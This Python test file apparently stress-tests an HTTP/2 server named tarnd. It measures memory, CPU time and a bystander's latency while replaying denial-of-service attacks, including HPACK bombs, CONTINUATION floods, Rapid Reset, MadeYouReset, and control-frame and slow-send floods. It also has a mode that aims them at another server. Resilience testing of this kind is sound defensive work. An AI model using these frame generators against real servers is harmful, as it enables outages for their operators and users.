#!/usr/bin/env python3
"""h2_attack.py TARND [TEST...] -- what attacks by HTTP/2 cost: tarnd's memory and CPU time, and a bystander's time.

Each attack is played alone, up to 4 MiB of it on one connection: resident memory at its peak and processor time are
bounded, and GOAWAY says how it ends.  Then it is played again and again, by connections one after the other, while
another process has hits on the same, only, worker: their p99 is bounded.  A part of them comes by TLS too.  In the end
memory has come back and tarnd serves.  Meanwhile attacker and origin, threads of this process, yield to tarnd and the
bystander: the processors are few.

    h2_attack.py --peer PORT PID NAME...      by hand: another server's figures (prior knowledge, one process, /1k)
    h2_attack.py --bystander PORT             used by the test itself
"""
import json
import os
import random
import socket
import struct
import subprocess
import sys
import threading
import time

sys.dont_write_bytecode = True
import h2_client
import h2_world
import tarnd
from h2_client import (CONTINUATION, ENHANCE_YOUR_CALM, FLOW_CONTROL_ERROR, FRAME_SIZE_ERROR, HEADERS,
                       INITIAL_WINDOW_SIZE, INSERT, PING, PRIORITY, PRIORITY_UPDATE, PROTOCOL_ERROR, SETTINGS,
                       STREAM_CLOSED, WINDOW_MOST, data, encode, frame, headers, indexed, literal, priority, reset,
                       settings, window)
from h2_world import HIT, HIT_BODY

MIB = 1 << 20
MOST = 4 * MIB            # of an attack
MEMORY_MAX = MIB          # resident, more than before
CPU_MAX_S = 0.050
P99_MAX_S = 0.005
P99_LOADED_S = 0.1        # more, where there are more programs that run than processors
TRIES = 3                 # of a figure that other programs on the machine can spoil
BYSTANDING_S = 0.3
ORIGIN_CONNECTIONS = 4    # of an attack whose requests come to the origin, which has enough to do then
CHUNK = 65536             # sent at a time
CALM = {ENHANCE_YOUR_CALM}
WRONG = CALM | {PROTOCOL_ERROR}
HUGE = "/body?n=20000000&framing=length"


class Attack:
    """`play(client)` yields bytes.  `ends`: the codes of GOAWAY; None: it may go on as long as it keeps the bounds.
    `hears` false: the attacker reads nothing until it has sent all.  `origin`: most requests that may come there.
    `memory`, `cpu_s`: other bounds, with their reason beside them.  `seconds` other than 30: no bystander."""

    def __init__(self, play, ends, hears=True, ours=None, origin=None, parameters="", seconds=30, memory=MEMORY_MAX,
                 cpu_s=CPU_MAX_S):
        self.play, self.ends, self.hears, self.ours = play, ends, hears, ours
        self.origin, self.parameters, self.seconds = origin, parameters, seconds
        self.memory, self.cpu_s = memory, cpu_s


ATTACKS = {}


def attack(ends=None, names=(("", {}),), **more):
    """Registers a generator; `names`: (suffix, keywords) of each form of it."""
    def register(play):
        for suffix, keywords in names:
            name = play.__name__ + ("_" + suffix if suffix else "")
            ATTACKS[name] = Attack(lambda c, k=keywords: play(c, **k), ends, **more)
        return play
    return register


def forms(key, *values):
    return [(str(v), {key: v}) for v in values]


def again(octets):
    """The same frames, for ever."""
    whole = octets * max(1, CHUNK // len(octets))
    while True:
        yield whole


def request_block(c, path=HIT, method="GET", more=()):
    return encode(c.head(path, more, method))


def streams(c, make, at_once=64):
    """make(stream id) of fresh streams, for ever."""
    while True:
        out = bytearray()
        for _ in range(at_once):
            out += make(c.next_id)
            c.next_id += 2
        yield bytes(out)


def hold(c, seconds=10):
    """Sends nothing, and looks what becomes of it."""
    c.until(lambda: c.ended or c.goaway is not None, seconds)
    yield b""


def greeted(c):
    """Nothing of the client's own comes between the attack's bytes from here on."""
    c.until(lambda: c.theirs is not None or c.ended, 10)
    c.push()
    c.answers = False


# ---- header blocks

@attack(WRONG, forms("field", "cookie", "a"))
def bomb(c, field):
    """CVE-2026-49975: a byte is a field; cookie crumbs, which are joined and so escape a count; the window is 0."""
    yield settings({INITIAL_WINDOW_SIZE: 0})
    ident = c.open().id
    yield headers(ident, request_block(c) + literal(field, "", INSERT))
    refs = indexed(62) * (16384 - 200)
    yield from streams(c, lambda i: headers(i, request_block(c, HUGE) + refs), 2)


@attack(None, forms("size", 0, 300, 4000))
def bomb_held(c, size):
    """As many fields as are allowed, on each of many streams that are never read: what is held."""
    yield settings({INITIAL_WINDOW_SIZE: 0})
    yield headers(c.open().id, request_block(c) + literal("cookie", "x" * size, INSERT))
    yield from streams(c, lambda i: headers(i, request_block(c, HUGE) + indexed(62) * 90), 4)


@attack(WRONG | {FRAME_SIZE_ERROR}, forms("size", 0, 1, 10))
def continuation(c, size):
    """2024: a block without an end."""
    block = encode([("x", "y" * 50)]) * 100
    greeted(c)
    yield headers(c.open().id, request_block(c), end_headers=False)
    yield from again(frame(CONTINUATION, block[:size], 0, 1))


@attack(WRONG)
def continuation_large(c):
    greeted(c)
    yield headers(c.open().id, request_block(c), end_headers=False)
    yield from again(frame(CONTINUATION, (encode([("x", "y" * 95)]) * 160)[:16384], 0, 1))


@attack(WRONG)
def continuation_one_string(c):
    """One value that never ends."""
    greeted(c)
    yield headers(c.open().id, request_block(c) + b"\0\1x\x7f" + h2_client.integer(10 * MIB, 7)[1:], end_headers=False)
    yield from again(frame(CONTINUATION, b"y" * 16384, 0, 1))


@attack(None, forms("coded", False, True), origin=4)
def large_heads(c, coded):
    """Requests that may be served or answered 431: 30 fields of 1,000 bytes, none known before."""
    rng = random.Random(7541)

    def one(i):
        more = [(f"x{n}", "%032x" % rng.getrandbits(128) * 31) for n in range(12)]
        return headers(i, encode(c.head(HIT, more), coded))
    yield from streams(c, one, 4)


@attack(None)
def table_churn(c):
    """Each field is put into the table, and all others out of it."""
    yield from streams(c, lambda i: headers(i, request_block(c) + b"".join(
        literal(f"x{i}{n}", "y" * 3900, INSERT) for n in range(3))), 4)


@attack(None)
def table_sizes(c):
    """RFC 7541 4.2: changes of the table's size, by the thousand."""
    change = (h2_client.table_size(0) + h2_client.table_size(4096)) * 4000
    yield from streams(c, lambda i: headers(i, change + request_block(c)), 2)


@attack(None, forms("how", "empty", "index0"))
def tiny_blocks(c, how):
    """Heads without anything in them: each is malformed, or ends the connection."""
    yield from streams(c, lambda i: headers(i, b"" if how == "empty" else b"\x80"), 1024)


# ---- streams and resets

@attack(CALM, forms("what", "hit", "miss", "post"), origin=2000)
def rapid_reset(c, what):
    """CVE-2023-44487: a request and its reset, so that the limit of streams is never reached."""
    def one(i):
        if what == "hit":
            block = request_block(c)
        elif what == "miss":
            block = request_block(c, f"/script/slow?{i}")
        else:
            block = request_block(c, "/echo", "POST")
        return headers(i, block, end_stream=what != "post") + reset(i)
    yield from streams(c, one, 512)


def mistake(kind, i, block, open_block):
    """A request, and what makes the server reset its stream."""
    asked, opened = headers(i, block), headers(i, open_block, end_stream=False)
    return {
        "window_0": asked + window(i, 0),
        "window_overflow": asked + window(i, WINDOW_MOST) + window(i, WINDOW_MOST),
        "data_behind_end": asked + data(i, b"x"),
        "headers_twice": asked + headers(i, block),
        "headers_open": opened + headers(i, open_block, end_stream=False),
        "priority_itself": asked + priority(i, i),
        "priority_itself_in_headers": frame(HEADERS, struct.pack("!IB", i, 15) + block, 37, i),
        "priority_size": asked + frame(PRIORITY, b"1234", 0, i),
        "length_more": opened + data(i, b"123456", True),
        "length_less": opened + data(i, b"1", True),
        "malformed": headers(i, block + literal("Upper", "x")),
        "no_path": headers(i, encode([(":method", "GET"), (":scheme", "http")])),
        "data_of_another_size": opened + data(i, b"1234", True),
    }[kind]


MISTAKES = ("window_0", "window_overflow", "data_behind_end", "headers_twice", "headers_open", "priority_itself",
            "priority_itself_in_headers", "priority_size", "length_more", "length_less", "malformed", "no_path")


@attack(WRONG | {STREAM_CLOSED, FLOW_CONTROL_ERROR, FRAME_SIZE_ERROR}, forms("kind", *MISTAKES), origin=2000)
def made_you_reset(c, kind):
    """CVE-2025-8671: mistakes for which the server resets the stream, whose request goes on."""
    def one(i):
        return mistake(kind, i, request_block(c, f"/script/slow?{i}"),
                       request_block(c, f"/script/slow?{i}", "POST", [("content-length", "4")]))
    yield from streams(c, one, 512)


@attack(None)
def made_you_reset_data_beyond_window(c):
    """A body that does not heed its stream's window."""
    sizes = [16384] * 3 + [16383, 1, 100]
    yield from streams(c, lambda i: headers(i, request_block(c, "/script/hold", "POST"), False) +
                       b"".join(data(i, b"x" * n) for n in sizes), 1)


@attack(CALM)
def beyond_the_limit(c):
    """A hundred streams that stay open, and then those that are refused."""
    yield from streams(c, lambda i: headers(i, request_block(c, "/echo", "POST"), False), 512)


@attack(WRONG | {STREAM_CLOSED}, forms("kind", "window", "reset", "data", "priority"))
def closed_stream(c, kind):
    """Frames for a stream that has been answered, or reset, long ago."""
    it = c.begin(HIT)
    c.finish(it)
    yield from again({"window": window(1, 1000), "reset": reset(1), "data": data(1, b"x"),
                      "priority": priority(1, 0)}[kind])


# ---- frames that bring no work

@attack(CALM)
def ping(c):
    yield from again(frame(PING, b"12345678"))


@attack(CALM, hears=False)
def ping_unread(c):
    yield from again(frame(PING, b"12345678"))


@attack(CALM)
def ping_acks(c):
    """Of PINGs that were never sent."""
    yield from again(frame(PING, b"12345678", 1))


@attack(CALM)
def settings_empty(c):
    yield from again(settings())


@attack(CALM, hears=False)
def settings_unread(c):
    """2019, and ATS in 2026: acknowledgements pile up."""
    yield from again(settings())


@attack(CALM, hears=False)
def settings_many_of_one_frame(c):
    yield from again(frame(SETTINGS, struct.pack("!HI", INITIAL_WINDOW_SIZE, 1000) * 2700))


@attack(CALM)
def settings_windows_of_many_streams(c):
    """Each changes the window of every stream."""
    yield b"".join(headers(c.open().id, request_block(c, "/echo", "POST"), False) for _ in range(90))
    yield from again(settings({INITIAL_WINDOW_SIZE: 1}) + settings({INITIAL_WINDOW_SIZE: 2}))


@attack(CALM)
def settings_table_size(c):
    yield from again(settings({h2_client.HEADER_TABLE_SIZE: 0}) + settings({h2_client.HEADER_TABLE_SIZE: 4096}))


@attack(CALM | {PROTOCOL_ERROR})
def settings_acks(c):
    yield from again(settings(ack=True))


@attack(CALM)
def empty_data(c):
    yield headers(c.open().id, request_block(c, "/echo", "POST"), False)
    yield from again(data(1))


@attack(CALM)
def data_of_padding(c):
    """DATA within its window that is padding only."""
    it = c.open("POST")
    yield headers(it.id, request_block(c, "/echo", "POST"), False)
    c.until(lambda: c.theirs is not None, 10)
    while True:
        out = bytearray()
        while min(c.send_window, it.send_window) >= 256 and len(out) < CHUNK:
            out += data(it.id, b"", pad=255)
            c.send_window -= 256
            it.send_window -= 256
        yield bytes(out)
        if not out and not c.until(lambda: min(c.send_window, it.send_window) >= 256 or c.goaway is not None, 3):
            return


@attack(None)
def headers_of_padding(c):
    yield from streams(c, lambda i: headers(i, request_block(c), pad=255), 64)


@attack(CALM, names=[(n, {"ident": i}) for n, i in (("connection", 0), ("stream", 1))])
def window_of_one(c, ident):
    yield headers(c.open().id, request_block(c, "/echo", "POST"), False)
    yield from again(window(ident, 1))


@attack(CALM)
def priority_churn(c):
    """RFC 7540's trees: streams that do not exist depend on each other."""
    rng = random.Random(7540)
    idents = [rng.randrange(1, 1 << 20) * 2 + 1 for _ in range(4096)]
    yield from again(b"".join(priority(i, idents[n - 1], n & 255, n % 3 == 0) for n, i in enumerate(idents)))


@attack(CALM)
def priority_update(c):
    """RFC 9218 7.1, of streams that are open, idle and far away."""
    yield headers(c.open().id, request_block(c, "/echo", "POST"), False)
    frames = b"".join(frame(PRIORITY_UPDATE, struct.pack("!I", 2 * n + 1) + b"u=%d, i" % (n % 8)) for n in range(2000))
    yield from again(frames)


@attack(None)
def priority_update_large(c):
    """Values of 16 KiB for streams that are not there yet: what is kept of them?"""
    for n in range(1000):
        yield frame(PRIORITY_UPDATE, struct.pack("!I", 2 * n + 101) + b"u=3, x=" + b"a" * 16000)


@attack(CALM)
def unknown_frames(c):
    yield from again(b"".join(frame(kind, b"", 255, kind) for kind in range(32, 250)))


@attack(None)
def unknown_frames_large(c):
    yield from again(frame(0xfa, b"x" * 16384))


@attack(CALM | {h2_client.NO_ERROR})
def goaways(c):
    yield from again(h2_client.goaway())


# ---- what is held

def take_nothing(c, target):
    """A hundred of them, until none is left."""
    many = [c.begin(target.format(i)) for i in range(100)]
    for it in many:
        it.credit = WINDOW_MOST
    yield b""
    if not c.until(lambda: c.ended or c.goaway is not None or all(s.over for s in many), 12):
        raise AssertionError("streams that take nothing are there for ever")


UNKEPT = "/body?n=1000000&framing=chunked&cc=no-store&{}"


@attack(None, ours={INITIAL_WINDOW_SIZE: 0}, parameters=", idle_send_timeout: 2s", seconds=15)
def window_0(c):
    """A hundred streams that take nothing of a large object that is in the cache."""
    yield from take_nothing(c, HUGE)


# A hundred requests of the origin: each holds the 64 KiB that a response may be ahead of who has taken nothing.
@attack(None, ours={INITIAL_WINDOW_SIZE: 0}, parameters=", idle_send_timeout: 2s", seconds=15, memory=12 * MIB, cpu_s=1)
def window_0_of_what_is_not_kept(c):
    yield from take_nothing(c, UNKEPT)


@attack(None, parameters=", idle_send_timeout: 2s", seconds=15)
def window_0_of_the_connection(c):
    """Windows of streams are large, that of the connection is never opened again."""
    greeted(c)
    yield settings({INITIAL_WINDOW_SIZE: WINDOW_MOST})
    yield from take_nothing(c, HUGE)


@attack(None, parameters=", timeout_body_idle: 2s", seconds=15)
def uploads_that_stop(c):
    """A hundred bodies of which one byte comes."""
    for i in range(100):
        it = c.begin("/echo", [("content-length", "100000")], b"x", more=True)
        it.last = None
    yield b""
    if not c.until(lambda: c.ended or c.goaway is not None or all(s.over for s in c.streams.values()), 12):
        raise AssertionError("bodies that do not come are waited for, for ever")


@attack(None, parameters=", timeout_req: 1s", seconds=15)
def a_block_that_comes_slowly(c):
    """A frame a tenth of a second, of a block that does not end: there is a deadline of the whole."""
    greeted(c)
    yield headers(c.open().id, request_block(c), end_headers=False)
    block = literal("x", "y")
    for _ in range(80):
        yield frame(CONTINUATION, block, 0, 1)
        if c.until(lambda: c.ended or c.goaway is not None, 0.1):
            return
    raise AssertionError("a block has no deadline")


@attack(None, parameters=", timeout_req: 1s", seconds=15)
def a_frame_that_comes_slowly(c):
    octets = headers(c.open().id, request_block(c) + literal("x", "y" * 200))
    greeted(c)
    for at in range(80):
        yield octets[at:at + 1]
        if c.until(lambda: c.ended or c.goaway is not None, 0.1):
            return
    raise AssertionError("a frame has no deadline")


@attack(None, parameters=", timeout_req: 1s", seconds=15)
def a_preface_that_comes_slowly(c):
    """No SETTINGS go before it (measured())."""
    for at in range(len(h2_client.PREFACE)):
        yield h2_client.PREFACE[at:at + 1]
        if c.until(lambda: c.ended or c.goaway is not None, 0.2):
            return
    yield from hold(c, 5)
    if not c.ended:
        raise AssertionError("a preface has no deadline")


# ---- the runner

class Process:
    """What a server costs."""

    def __init__(self, pid):
        self.pid = pid

    def status(self, name):
        with open(f"/proc/{self.pid}/status", encoding="ascii") as f:
            for line in f:
                if line.startswith(name + ":"):
                    return int(line.split()[1]) * 1024
        raise RuntimeError(f"no {name}")

    def resident(self):
        """Without the log rings: shared memory of a fixed size, whose pages are there once they were written."""
        return self.status("VmRSS") - self.status("RssShmem")

    def reset_peak(self):
        with open(f"/proc/{self.pid}/clear_refs", "w", encoding="ascii") as f:
            f.write("5")

    def peak(self):
        return self.status("VmHWM") - self.status("RssShmem")

    def cpu_s(self):
        """User and system, all threads: to the nanosecond where the kernel keeps it, else to the tick."""
        total = 0
        try:
            for task in os.listdir(f"/proc/{self.pid}/task"):
                with open(f"/proc/{self.pid}/task/{task}/schedstat", encoding="ascii") as f:
                    total += int(f.read().split()[0])
        except OSError:
            total = 0
        with open(f"/proc/{self.pid}/stat", encoding="ascii") as f:
            fields = f.read().rpartition(")")[2].split()
        ticks = (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
        return total / 1e9 if total else ticks


class Outcome:
    sent = peak = kept = 0
    cpu_s = 0.0
    code = None
    ended = False
    gone = False

    def __str__(self):
        how = (h2_client.error_name(self.code) if self.code is not None else "ended" if self.ended else "goes on")
        return (f"{self.sent / MIB:5.2f} MiB sent, peak {self.peak / 1024:+6.0f} KiB, kept {self.kept / 1024:+6.0f} KiB, "
                f"CPU {self.cpu_s * 1000:6.1f} ms, {how}")


def play(it, c, most=MOST, until=None):
    """Plays one on a connection; until GOAWAY, its end, its bytes or its time."""
    began, outcome = time.monotonic(), Outcome()
    try:
        for octets in it.play(c):
            if not c.push(octets, it.seconds, it.hears) or c.sent >= most or c.goaway is not None:
                break
            if time.monotonic() - began > it.seconds or (until and time.monotonic() > until):
                break
            if it.hears:
                c.turn()
        c.until(lambda: c.ended or (c.goaway is not None and not c.out), 2 if until is None else 0.05)
        if c.goaway is not None:
            c.until(lambda: c.ended, 1 if until is None else 0)
    except (ConnectionError, BrokenPipeError):
        pass
    outcome.sent, outcome.code, outcome.ended = c.sent, c.goaway, c.ended
    return outcome


def measured(it, process, connect):
    """The attack alone.  Its client is no judge of answers: that is h2.py."""
    time.sleep(0.05)
    process.reset_peak()
    resident, cpu = process.resident(), process.cpu_s()
    c = connect(lenient=True, ours=it.ours, greet=it.play is not ATTACKS["a_preface_that_comes_slowly"].play)
    try:
        outcome = play(it, c)
        outcome.peak = process.peak() - resident
    finally:
        c.close()
    time.sleep(0.1)
    outcome.cpu_s = process.cpu_s() - cpu
    outcome.kept = process.resident() - resident
    return outcome


class Bystander:
    """Another process, with a connection of HTTP/1 that has a hit each millisecond."""

    def __init__(self, port):
        self.process = subprocess.Popen([sys.executable, os.path.abspath(__file__), "--bystander", str(port)],
                                        stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.process.stdout.readline()

    def times(self, seconds, meanwhile=None):
        """Of each hit, sorted."""
        self.process.stdin.write(b"%f\n" % seconds)
        self.process.stdin.flush()
        until = time.monotonic() + seconds
        if meanwhile:
            attacker = threading.Thread(target=meanwhile, args=(until,))
            attacker.start()
            attacker.join()
        return sorted(json.loads(self.process.stdout.readline()))

    def close(self):
        self.process.stdin.close()
        self.process.wait(tarnd.PATIENCE_S)
        self.process.stdout.close()


def bystand(port, target=HIT, host="a.test"):
    s = socket.create_connection(("127.0.0.1", port), timeout=tarnd.PATIENCE_S)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    asked = tarnd.request(target, host=host)

    def hit():
        s.sendall(asked)
        got = b""
        while b"\r\n\r\n" not in got:
            got += s.recv(65536)
        head, _, rest = got.partition(b"\r\n\r\n")
        size = int(tarnd.Answer(head + b"\r\n\r\n").fields["content-length"])
        while len(rest) < size:
            rest += s.recv(65536)

    hit()
    print("ready", flush=True)
    for line in sys.stdin:
        until, took = time.monotonic() + float(line), []
        while time.monotonic() < until:
            began = time.monotonic()
            hit()
            took.append(time.monotonic() - began)
            time.sleep(0.001)
        print(json.dumps(took), flush=True)


def p99(times):
    return times[min(len(times) - 1, len(times) * 99 // 100)]


def apart(pid):
    """tarnd on a processor of its own, where there are two: what other programs do to it is not its fault."""
    cpus = sorted(os.sched_getaffinity(0))
    if len(cpus) < 2:
        return
    for task in os.listdir(f"/proc/{pid}/task"):
        os.sched_setaffinity(int(task), cpus[:1])
    os.sched_setaffinity(0, cpus[1:])


def yields():
    """This thread does, to other processes."""
    os.setpriority(os.PRIO_PROCESS, threading.get_native_id(), 10)


def slow(handler):
    """An origin that takes a while."""
    time.sleep(0.2)
    handler.start("length", 2, "no-store")
    handler.piece(b"ok")


class Handler(h2_world.Handler):
    """/script/slow?ANYTHING and /script/hold take their time."""

    def setup(self):
        yields()
        super().setup()

    def do_GET(self):
        if self.path.startswith("/script/"):
            with self.server.lock:
                self.server.requests[self.path] += 1
            slow(self)
        else:
            super().do_GET()

    def do_POST(self):
        if self.path.startswith("/script/"):
            with self.server.lock:
                self.server.requests[self.path] += 1
            self.whole_body()
            slow(self)
        else:
            super().do_POST()


class Attacks(h2_world.World):
    """A test for each of ATTACKS is added below."""

    @classmethod
    def setUpClass(cls):
        cls.keeper, cls.worlds = h2_world.World(), {}

    @classmethod
    def tearDownClass(cls):
        try:
            for it, base, other in cls.worlds.values():
                other.close()
                cls.keeper.comes_back(it, base)
                cls.keeper.no_connection_is_left(it)
        finally:
            cls.end()

    @classmethod
    def end(cls):
        if not cls.keeper.doCleanups():
            raise AssertionError("a tarnd does not end as it should")

    def world(self, parameters):
        """A tarnd with these, the memory of its traffic when it is quiet, and a bystander."""
        if parameters not in self.worlds:
            it = self.keeper.h2(parameters)
            self.hit(it)
            apart(it.process.pid)
            other = Bystander(it.old_port)
            with self.plain(it) as c:
                c.request(HUGE)
                c.finish(*[c.begin(HIT) for _ in range(100)])
            time.sleep(1.5)  # memory is counted each second
            self.worlds[parameters] = it, self.traffic(it), other
        return self.worlds[parameters]

    def allowance(self):
        return 5 if h2_world.sanitized(self.program) else 1

    def attack(self, name, by_tls=False):
        attack_, allowance = ATTACKS[name], self.allowance()
        it, _, other = self.world(attack_.parameters)

        def connect(**more):
            return self.secure(it, **more) if by_tls else self.plain(it, **more)
        process = Process(it.process.pid)
        for attempt in range(TRIES):  # the first may be what makes tarnd keep memory ready
            with self.origin.lock:
                asked = sum(self.origin.requests.values())
            outcome = measured(attack_, process, connect)
            if outcome.peak <= attack_.memory and outcome.cpu_s <= attack_.cpu_s * allowance:
                break
        with self.origin.lock:
            asked = sum(self.origin.requests.values()) - asked
        print(f"{name}: {outcome}, origin asked {asked}", flush=True)
        if attack_.ends is not None:
            self.assertIn(outcome.code, attack_.ends, f"{name}: {outcome}")
            self.assertTrue(outcome.ended, f"{name}: the connection lives behind GOAWAY")
        if allowance == 1:  # a sanitizer keeps what is freed
            self.assertLessEqual(outcome.peak, attack_.memory, f"{name}: {outcome}")
            self.assertLessEqual(outcome.kept, MEMORY_MAX, f"{name}: {outcome}")
        self.assertLessEqual(outcome.cpu_s, attack_.cpu_s * allowance, f"{name}: {outcome}")
        if attack_.origin is not None:
            self.assertLessEqual(asked, attack_.origin, name)
        if attack_.seconds == 30 and allowance == 1:  # a sanitizer's time is not a bystander's
            self.bystander(name, attack_, it, other, connect)
        with self.plain(it) as c:
            self.assertEqual(bytes(c.request(HIT).body), HIT_BODY)

    def bystander(self, name, attack_, it, other, connect):
        seen = []
        most = ORIGIN_CONNECTIONS if attack_.origin else 1 << 30

        def meanwhile(until):
            yields()
            while time.monotonic() < until and len(seen) < most:
                with connect(lenient=True, ours=attack_.ours) as c:
                    seen.append(play(attack_, c, until=until).sent)

        for attempt in range(TRIES):
            quiet = other.times(0.2)
            seen.clear()
            loud = other.times(BYSTANDING_S, meanwhile)
            if p99(loud) <= P99_MAX_S:
                break
        # What the machine does to a process anyway is not tarnd's.
        limit = P99_MAX_S + 4 * p99(quiet)
        if os.getloadavg()[0] > len(os.sched_getaffinity(0)):
            limit += P99_LOADED_S
        print(f"{name}: bystander's p99 {p99(loud) * 1000:.2f} ms of {len(loud)} hits (quiet {p99(quiet) * 1000:.2f}), "
              f"beside {len(seen)} connections, {sum(seen) / MIB:.1f} MiB", flush=True)
        self.assertLessEqual(p99(loud), limit, name)
        self.assertGreater(len(loud), 20)


# One of each kind.
BY_TLS = ("bomb_cookie", "rapid_reset_hit", "made_you_reset_malformed", "continuation_large", "settings_empty", "ping",
          "empty_data", "data_of_padding", "window_0", "priority_churn", "table_churn", "unknown_frames_large")


def add_test(name, by_tls):
    def test(self):
        self.attack(name, by_tls)
    setattr(Attacks, "test_" + ("tls_" if by_tls else "") + name, test)


for each in ATTACKS:
    add_test(each, False)
for each in BY_TLS:
    add_test(each, True)


def peer(port, pid, names):
    """The same attacks on another server."""
    process = Process(pid)
    globals().update(HIT="/1k", HUGE="/16m")
    for name in names or ATTACKS:
        try:
            measured(ATTACKS[name], process, lambda **more: h2_client.prior_knowledge(port, **more))
            print(f"{name:40} {measured(ATTACKS[name], process, lambda **more: h2_client.prior_knowledge(port, **more))}",
                  flush=True)
        except (AssertionError, OSError) as e:
            print(f"{name:40} {e}", flush=True)


if __name__ == "__main__":
    if sys.argv[1:2] == ["--bystander"]:
        bystand(int(sys.argv[2]))
    elif sys.argv[1:2] == ["--peer"]:
        peer(int(sys.argv[2]), int(sys.argv[3]), sys.argv[4:])
    else:
        h2_world.main(None, __doc__, Handler)
